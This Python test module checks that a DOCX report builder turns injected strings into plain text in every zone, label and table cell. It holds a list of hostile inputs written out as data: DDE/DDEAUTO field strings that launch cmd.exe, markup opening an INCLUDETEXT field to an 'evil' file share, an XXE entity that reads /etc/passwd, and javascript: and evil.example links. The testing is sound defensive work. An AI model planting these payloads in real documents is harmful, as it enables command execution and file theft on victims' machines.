"""Sanitized injection: whatever a transcript, a speaker name, a table cell or a zone label says, it is text.

Every payload the issue names (docxtpl's corrupting ``&``/``<`` — its issues #38, #105, #447, #594 —, a
DDEAUTO field, markup closing ``w:t`` and opening ``w:fldSimple``, XML-illegal characters, links) and
hypothesis-made strings go into every kind of place: the output parses, python-docx opens it, the text
reads back as sent (less the characters XML cannot hold), and the audit finds nothing active.
"""

from __future__ import annotations

import io

import docx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from astra.builder.check import check_document
from astra.builder.engine import build
from astra.builder.sanitize import clean_text
from astra.ingest.audit import audit
from astra.ingest.zones import extract_maps
from astra.ooxml.ns import W
from astra.ooxml.package import Package
from astra.samples.templates import build_sample_template, sample_sidecar

from .helpers import intent_output, with_speaker, zone_controls, zone_paragraphs

PAYLOADS = [
    "Tom & Jerry <tom@example.com> said \"hi\" & 'bye'",
    "a < b && c > d; 5 > 3 & 2 < 4",
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
    "{DDE \"c:\\\\windows\\\\system32\\\\cmd.exe\" \"/k calc\"}",
    '</w:t><w:fldSimple w:instr="INCLUDETEXT \\\\\\\\evil\\\\share\\\\x.docx"><w:r><w:t>x</w:t></w:r>'
    "</w:fldSimple><w:t>",
    '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>',
    "]]><![CDATA[<script>alert(1)</script>]]>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;&amp;&#0;&#x1F;',
    '<?xml-stylesheet href="http://evil.example/x.xsl"?>',
    "nul\x00 vt\x0b ff\x0c esc\x1b del\x7f fffe\ufffe ffff\uffff surrogate\ud800 end",
    "line one\nline two\r\nline three\rline four\ttabbed",
    "https://evil.example/phish file://server/share/x.exe \\\\server\\share javascript:alert(1) mailto:a@b.c",
    "{{ summary }} {{ notes }} {{ not a zone }} {% for x in y %}{{ x }}{% endfor %}",
    "\u202eRTL override\u202c, emoji \U0001f600, combining e\u0301, zero-width\u200b",
    "HYPERLINK \"http://evil.example\" \\o \"tip\"",
]


TEMPLATE = build_sample_template()
MAPS = extract_maps(TEMPLATE, sample_sidecar())


def _table(values: list[str]) -> dict:
    return {"id": "data/x.json", "source": "data/x.json", "sheet": None, "header": values,
            "columns": [{"name": v, "type": "text", "format": None} for v in values],
            "rows": [values, values], "row_count": 2}


def _build_everywhere(template, maps, text: str):
    session = intent_output(
        {"title": [text], "report_ref": [text], "summary": [text], "action_items": [text, text], "notes": [text]},
        {"measurements": [_table([text, "plain"])]}, speakers={"summary": text})
    zone_map = with_speaker(maps.zone_map, "summary")
    zone_map = {**zone_map, "zones": [{**z, "label": f"{z['label']} {text}"} for z in zone_map["zones"]]}
    return build(template, zone_map, maps.style_map, session), zone_map


def _assert_inert(out, zone_map, template, text: str) -> None:
    expected = clean_text(text)
    docx.Document(io.BytesIO(out.docx))
    pkg = Package.read(out.docx)
    for name in pkg.members:  # every XML part parses with the hardened parser
        if name.endswith((".xml", ".rels")):
            pkg.xml(name)
    assert zone_paragraphs(out.docx, "notes") == [expected]
    assert zone_paragraphs(out.docx, "action_items") == [expected, expected]
    assert zone_paragraphs(out.docx, "title") == [expected]
    assert zone_paragraphs(out.docx, "report_ref") == [expected]
    assert zone_paragraphs(out.docx, "summary") == [f"{expected}: {expected}" if expected else ""]
    table = zone_controls(out.docx)["measurements"].find(f"{W.sdtContent}/{W.tbl}")
    first_cells = []
    for tr in table.findall(W.tr):
        cell = tr.find(W.tc)
        first_cells.append("".join(n.text or "" if n.tag == W.t else "\n" if n.tag == W.br else "\t"
                                   for n in cell.iter(W.t, W.br, W.tab)))
    assert first_cells == [expected[:2000] + ("\u2026" if len(expected) > 2000 else "")] * 3
    labels = {z["id"]: z["label"] for z in zone_map["zones"]}
    title_alias = zone_controls(out.docx)["title"].find(f"{W.sdtPr}/{W.alias}").get(W.val)
    assert title_alias == clean_text(labels["title"])
    body = pkg.xml("word/document.xml")
    for tag in (W.fldSimple, W.instrText, W.fldChar, W.hyperlink):
        assert next(body.iter(tag), None) is None
    assert audit(out.docx, "out.docx").passed
    report = check_document(out.docx, zone_map, template=template)
    assert report.passed, report.findings


@pytest.mark.parametrize("text", PAYLOADS, ids=range(len(PAYLOADS)))
def test_payload_stays_text_everywhere(text):
    out, zone_map = _build_everywhere(TEMPLATE, MAPS, text)
    _assert_inert(out, zone_map, TEMPLATE, text)


_ANY_CHARACTER = st.characters(min_codepoint=0, max_codepoint=0x10FFFF, exclude_categories=())
_MARKUP = st.sampled_from(["<", ">", "&", '"', "'", "]]>", "</w:t>", "<w:fldSimple w:instr=\"DDE\">", "{", "}",
                           "&amp;", "&#0;", "\x00", "\r", "\n", "\t", "\ud800", "\ufffe", "{{ notes }}"])


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(st.text(_ANY_CHARACTER, max_size=20), _MARKUP), max_size=12).map("".join))
def test_hypothesis_strings_stay_text(text):
    out, zone_map = _build_everywhere(TEMPLATE, MAPS, text)
    _assert_inert(out, zone_map, TEMPLATE, text)


def test_clean_text_removes_only_what_xml_cannot_hold():
    assert clean_text("a\x00b\x08c\x0bd\x1fe\ufffef\uffffg\ud800h\udfffi") == "abcdefghi"
    assert clean_text("tab\tnl\ncr\rcrlf\r\n") == "tab\tnl\ncr\ncrlf\n"
    assert clean_text("\x7f\x85\u2028\U0001f600") == "\x7f\x85\u2028\U0001f600"
